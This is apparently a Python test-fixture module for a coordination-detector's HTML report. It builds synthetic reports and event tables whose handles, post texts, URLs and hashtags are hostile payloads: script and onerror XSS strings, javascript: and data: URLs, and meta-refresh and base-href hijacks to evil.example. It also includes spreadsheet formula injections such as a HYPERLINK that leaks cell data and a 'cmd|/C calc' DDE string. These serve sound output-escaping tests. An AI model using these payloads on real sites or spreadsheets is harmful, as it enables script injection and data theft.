"""Hand-built report dicts (schema 1.0, detector/report/SCHEMA.md) for the HTML report tests.

``make_report`` builds a plausible scan report whose user-controlled strings
(post texts, handles, display names, URLs, hashtags, reasons) are attack
payloads: each one, if it ever ran, would set ``window.__pwned`` or change
``document.title``, and several would make the browser fetch
``evil.example``. The rest is generated with a seeded ``random.Random``.
"""

from __future__ import annotations

import functools
import random
from html.parser import HTMLParser
from typing import Any

PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned = 1; document.title = 'PWNED';</script>",
    "<img src=x onerror=\"window.__pwned = 2; document.title = 'PWNED'\">",
    '<svg onload="window.__pwned = 3"></svg>',
    "javascript:window.__pwned = 4",
    "</script><script>window.__pwned = 5</script>",
    '"><script>window.__pwned = 6</script><p x="',
    "' onmouseover='window.__pwned = 7' autofocus onfocus='window.__pwned = 7",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<style>body { display: none !important; }</style>",
    '<img src="http://evil.example/pixel.png">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<a href="javascript:window.__pwned = 9">click</a>',
    '<object data="http://evil.example/x.swf"></object>',
    "{{constructor.constructor('window.__pwned = 8')()}}",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 10">',
    "\u202eevil\u202c RTL override, zero\u200bwidth, combining e\u0301",
    "中文测试：协调行动 #话题 と日本語のテキスト 그리고 한국어",
    "Emoji 🇺🇳🔥 and math 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
)
"""Strings that must show up as inert text."""

EVIL_URLS: tuple[str, ...] = (
    "javascript:window.__pwned=11",
    "http://evil.example/track?u=1&v=<script>window.__pwned=12</script>",
    "data:text/html,<script>window.__pwned=13</script>",
    'https://evil.example/"onmouseover="window.__pwned=14',
)


class Page(HTMLParser):
    """Collects every tag, attribute, text node and the raw content of <script>/<style>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self._in: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag in self.raw:
            self._in = tag
            self.raw[tag].append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in:
            self._in = None

    def handle_data(self, data: str) -> None:
        if self._in:
            self.raw[self._in][-1] += data
        else:
            self.text.append(data)


def parse(html_text: str) -> Page:
    page = Page()
    page.feed(html_text)
    page.close()
    return page


LAYERS = ("repost", "url", "hashtag", "text", "neardup", "timing")


def _handle(i: int, hostile: bool) -> str:
    if hostile and i % 5 == 0:
        return f"<b>bot{i}</b><script>window.__pwned={100 + i}</script>"
    if hostile and i % 5 == 1:
        return f'"><img src=x onerror=window.__pwned={200 + i}>'
    return f"amplifier_{i:03d}"


def make_report(
    seed: int = 7,
    n_clusters: int = 3,
    accounts_per_cluster: int = 12,
    hostile: bool = True,
    command: str = "hashtag",
) -> dict[str, Any]:
    """A schema-1.0 report with ``n_clusters`` clusters; ``hostile`` fills strings with payloads."""
    rng = random.Random(seed)
    t0 = 1_714_550_400  # 2024-05-01 08:00 UTC
    bin_s = 3600
    payload = (
        (lambda k: PAYLOADS[k % len(PAYLOADS)])
        if hostile
        else (lambda k: f"Sample post number {k} #topic")
    )
    clusters = []
    accounts = []
    n = 0
    for c in range(n_clusters):
        members = []
        for _ in range(accounts_per_cluster):
            score = round(rng.uniform(0.55, 0.98), 4)
            acc = {
                "account_id": str(10_000_000 + n),
                "account_name": _handle(n, hostile),
                "score": score,
            }
            members.append(acc)
            accounts.append(
                {
                    **acc,
                    "flagged": score >= 0.6,
                    "cluster_id": c,
                    "n_events": rng.randint(5, 60),
                    "reasons": [
                        payload(n),
                        f"reposted the same posts within 12 s of {accounts_per_cluster - 1} others",
                    ],
                }
            )
            n += 1
        members.sort(key=lambda a: (-a["score"], a["account_id"]))
        edges = []
        for i in range(len(members)):
            for j in range(i + 1, len(members)):
                if rng.random() < 0.45:
                    a, b = sorted((members[i]["account_id"], members[j]["account_id"]))
                    edges.append(
                        {
                            "a": a,
                            "b": b,
                            "weight": round(rng.uniform(0.2, 5.0), 3),
                            "layers": sorted(rng.sample(LAYERS, rng.randint(1, 3))),
                        }
                    )
        edges.sort(key=lambda e: (-e["weight"], e["a"], e["b"]))
        burst = t0 + rng.randint(2, 40) * bin_s
        actions = sorted(
            (
                {
                    "account_name": m["account_name"],
                    "ts": burst + k * 1800 + rng.randint(0, 8),
                    "kind": rng.choice(["repost", "repost", "post", "reply", "quote"]),
                }
                for m in members
                for k in range(rng.randint(3, 8))
            ),
            key=lambda a: (a["ts"], a["account_name"]),
        )
        mix = {layer: rng.random() for layer in rng.sample(LAYERS, 4)}
        total = sum(mix.values())
        clusters.append(
            {
                "cluster_id": c,
                "score": round(rng.uniform(0.5, 0.99), 4),
                "flagged": c < 2,
                "size": len(members),
                "n_events": len(actions),
                "density": round(rng.uniform(0.2, 0.9), 3),
                "reasons": [
                    f"{len(members)} accounts reposted the same 14 posts within a median 6 s",
                    payload(c + 3),
                ],
                "accounts": members,
                "evidence_mix": {k: round(v / total, 4) for k, v in sorted(mix.items())},
                "median_gap_s": round(rng.uniform(2, 90), 1),
                "top_objects": [
                    {
                        "object": EVIL_URLS[c % len(EVIL_URLS)]
                        if hostile
                        else "https://news.example/a",
                        "kind": "url",
                        "n": 40,
                    },
                    {
                        "object": "#" + (payload(c + 7) if hostile else "topic"),
                        "kind": "hashtag",
                        "n": 31,
                    },
                    {"object": "1790000000000000001", "kind": "repost", "n": 25},
                    {"object": payload(c + 11), "kind": "text", "n": 12},
                ],
                "sample_texts": [
                    {
                        "account_name": members[k]["account_name"],
                        "ts": burst + k * 3,
                        "text": payload(c * 6 + k),
                    }
                    for k in range(6)
                ],
                "edges": edges,
                "actions": actions,
            }
        )
    clusters.sort(key=lambda cl: (-cl["score"], cl["cluster_id"]))
    for k in range(25):
        accounts.append(
            {
                "account_id": str(20_000_000 + k),
                "account_name": f"citizen_{k:02d}",
                "score": round(rng.uniform(0.01, 0.4), 4),
                "flagged": False,
                "cluster_id": None,
                "n_events": rng.randint(1, 20),
                "reasons": [],
            }
        )
    accounts.sort(key=lambda a: (-a["score"], a["account_id"]))
    timeline = []
    for b in range(72):
        events = rng.randint(20, 60) + (400 if b in (10, 11, 30) else 0)
        flagged = rng.randint(0, 5) + (300 if b in (10, 11, 30) else 0)
        timeline.append({"t": t0 + b * bin_s, "events": events, "flagged_events": flagged})
    flagged_n = sum(1 for a in accounts if a["flagged"])
    total_events = sum(r["events"] for r in timeline)
    officials = [
        {
            "account_id": "900001",
            "account_name": "EmbassyExample",
            "role": "embassy",
            "country": "XX",
            "in_strength": 812.0,
            "pagerank": 0.0412,
            "pagerank_rank": 1,
            "betweenness": 0.183,
            "received": 790,
            "flagged_share": 0.62,
            "median_time_to_amplify_s": 14.0,
            "share_within_60s": 0.71,
            "inauthentic_reach_share": 0.55,
        },
        {
            "account_id": "900002",
            "account_name": "MFA_Example"
            if not hostile
            else "MFA<script>window.__pwned=15</script>",
            "role": "ministry",
            "country": "XX",
            "in_strength": 120.5,
            "pagerank": 0.0101,
            "pagerank_rank": 7,
            "betweenness": None,
            "received": 115,
            "flagged_share": 0.08,
            "median_time_to_amplify_s": 1520.0,
            "share_within_60s": 0.04,
            "inauthentic_reach_share": 0.02,
        },
    ]
    if command == "hashtag":
        focus_summary = {
            "hashtag": payload(0),
            "events": total_events,
            "accounts": len(accounts) + 300,
            "flagged_event_share": 0.31,
            "flagged_cluster_event_share": 0.27,
            "officials_involved": [o["account_name"] for o in officials],
        }
    elif command == "account":
        focus_summary = {
            "account_id": "900001",
            "account_name": "EmbassyExample",
            "found": True,
            "official": officials[0],
            "amplifications": 790,
            "amplifiers": 122,
            "flagged_amplification_share": 0.62,
            "median_time_to_amplify_s": 14.0,
            "share_within_60s": 0.71,
            "top_amplifiers": [
                {
                    "account_id": a["account_id"],
                    "account_name": a["account_name"],
                    "n": 40 - k,
                    "median_delay_s": 5.0 + k,
                    "flagged": a["flagged"],
                }
                for k, a in enumerate(accounts[:12])
            ],
        }
    else:
        focus_summary = {}
    return {
        "schema_version": "1.0",
        "tool": {"name": "detector", "version": "0.1.0"},
        "command": command,
        "focus": {
            "hashtag": ("#" + payload(0)) if command == "hashtag" else None,
            "account": "EmbassyExample" if command == "account" else None,
        },
        "focus_summary": focus_summary,
        "parameters": {
            "window_s": None,
            "window_used_s": 60,
            "since": None,
            "until": None,
            "min_participation": 2,
            "neardup_threshold": 0.7,
            "timing_bin_s": 60,
            "flag_threshold": 0.6,
            "model": None,
            "seed": 0,
            "inputs": [payload(4)] if hostile else ["sample.jsonl"],
        },
        "input_summary": {
            "events": total_events,
            "accounts": len(accounts) + 300,
            "first_ts": t0,
            "last_ts": t0 + 72 * bin_s - 1,
            "kinds": {"post": 900, "repost": 2100, "reply": 300, "quote": 80},
            "platforms": {"twitter": total_events},
            "skipped": {payload(2): 3} if hostile else {},
        },
        "verdict": {
            "level": "high",
            "headline": "3 groups of accounts pushed "
            + (payload(0) if hostile else "#topic")
            + " in synchronised bursts.",
            "details": ["36 accounts were flagged; they made 31% of the posts.", payload(1)],
            "flagged_accounts": flagged_n,
            "flagged_event_share": 0.31,
        },
        "timeline_bin_s": bin_s,
        "timeline": timeline,
        "clusters": clusters,
        "accounts": accounts,
        "officials": officials,
        "methods": {
            "thresholds": {"flag_threshold": 0.6, "edge_percentile": 0.95, payload(6): 1.0},
            "notes": ["A flag is evidence for human review, not proof.", payload(5)],
            "layers": {
                layer: {"edges": 10 * (i + 1), "description": f"shared {layer} within the window"}
                for i, layer in enumerate(LAYERS)
            },
        },
    }


def make_events(seed: int = 11, n_campaign: int = 14, n_organic: int = 80):
    """Canonical events for a real scan: one copy-paste/repost campaign whose texts, handles and
    URLs are attack payloads, in an organic background (seeded; same seed -> same table)."""
    from detector.schema import events_from_records

    rng = random.Random(seed)
    t0 = 1_714_550_400
    records: list[dict[str, Any]] = []
    sponsor = {"account_id": "900001", "account_name": "EmbassyExample"}

    def add(
        acc: dict[str, str],
        ts: int,
        kind: str,
        text: str,
        target: str | None = None,
        target_acc: str | None = None,
        hashtags=(),
        urls=(),
        mentions=(),
    ) -> None:
        records.append(
            {
                "event_id": f"e{len(records):06d}",
                "platform": "twitter",
                "account_id": acc["account_id"],
                "account_name": acc["account_name"],
                "ts": ts,
                "kind": kind,
                "target_event_id": target,
                "target_account_id": target_acc,
                "text": text,
                "hashtags": list(hashtags),
                "urls": list(urls),
                "mentions": list(mentions),
                "lang": "en",
            }
        )

    campaign = [
        {
            "account_id": str(10_000_000 + i),
            "account_name": _handle(i, True) if i < 4 else f"patriot{i:04d}{rng.randint(10, 99)}",
        }
        for i in range(n_campaign)
    ]
    organic = [
        {"account_id": str(20_000_000 + i), "account_name": f"citizen_{i:03d}"}
        for i in range(n_organic)
    ]
    for k in range(24):  # the sponsor's posts, amplified by the campaign within seconds
        ts = t0 + k * 5400 + rng.randint(0, 600)
        statement = f"Official statement {k} #peace"
        add(sponsor, ts, "post", statement, hashtags=["peace"])
        original = records[-1]["event_id"]
        delays = [(acc, rng.randint(2, 20)) for acc in campaign if rng.random() < 0.9]
        delays += [(acc, rng.randint(600, 30000)) for acc in rng.sample(organic, 3)]
        for acc, delay in delays:
            add(acc, ts + delay, "repost", statement, original, "900001", hashtags=["peace"])
    for k in range(12):  # copy-paste bursts with payload texts and URLs
        ts = t0 + 1800 + k * 7200
        text = PAYLOADS[k % len(PAYLOADS)] + " @EmbassyExample " + EVIL_URLS[k % len(EVIL_URLS)]
        for acc in campaign:
            add(
                acc,
                ts + rng.randint(0, 30),
                "post",
                text,
                hashtags=["peace", "truth"],
                urls=[EVIL_URLS[k % len(EVIL_URLS)]],
                mentions=["embassyexample"],
            )
    for acc in organic:  # background chatter
        for _ in range(rng.randint(2, 12)):
            add(
                acc,
                t0 + rng.randint(0, 36 * 3600),
                "post",
                f"my own thoughts {rng.randint(0, 10**6)}",
                hashtags=rng.sample(["peace", "news", "sport", "music"], 1),
            )
    records.sort(key=lambda r: (r["ts"], r["event_id"]))
    return events_from_records(records)


def make_accounts(events) -> Any:
    """Accounts table for :func:`make_events`: the campaign's accounts created 3-20 days before its
    first post (a campaign's throwaway accounts), everyone else 1-8 years before (seeded)."""
    from detector.schema import accounts_from_records

    rng = random.Random(7)
    first = events.groupby(events["account_id"].astype(str))["ts"].min()
    rows = []
    for account_id, ts in first.items():
        young = account_id.startswith("1000")
        age_days = rng.randint(3, 20) if young else rng.randint(365, 8 * 365)
        rows.append({"account_id": account_id, "created_at": int(ts) - age_days * 86400})
    return accounts_from_records(rows)


def scan_report(events, command: str = "scan", accounts: Any = None, **params: Any) -> dict[str, Any]:
    """The real report of ``detector.pipeline.run_scan`` for ``events`` (progress bars off)."""
    from detector.pipeline import ScanParams, run_scan
    from detector.progress import set_quiet

    set_quiet(True)
    return run_scan(
        events, accounts, params=ScanParams(**params), command=command, progress=False
    ).report


@functools.lru_cache(maxsize=1)
def sample_data_report() -> dict[str, Any] | None:
    """The real report for the shipped ``sample_data/`` (``None`` while it does not exist yet).

    Inputs are the ``events*`` files there; ``officials*`` is the registry.
    """
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "sample_data"
    inputs = sorted(p for p in root.glob("events*") if p.is_file()) if root.is_dir() else []
    if not inputs:
        return None
    from detector.io import read_inputs
    from detector.pipeline import ScanParams, run_scan
    from detector.progress import set_quiet

    set_quiet(True)
    officials = sorted(p for p in root.glob("*official*") if p.is_file())
    ingest = read_inputs(inputs)
    result = run_scan(
        ingest.events,
        ingest.accounts,
        officials=officials[0] if officials else None,
        params=ScanParams(),
        command="scan",
        progress=False,
    )
    return result.report
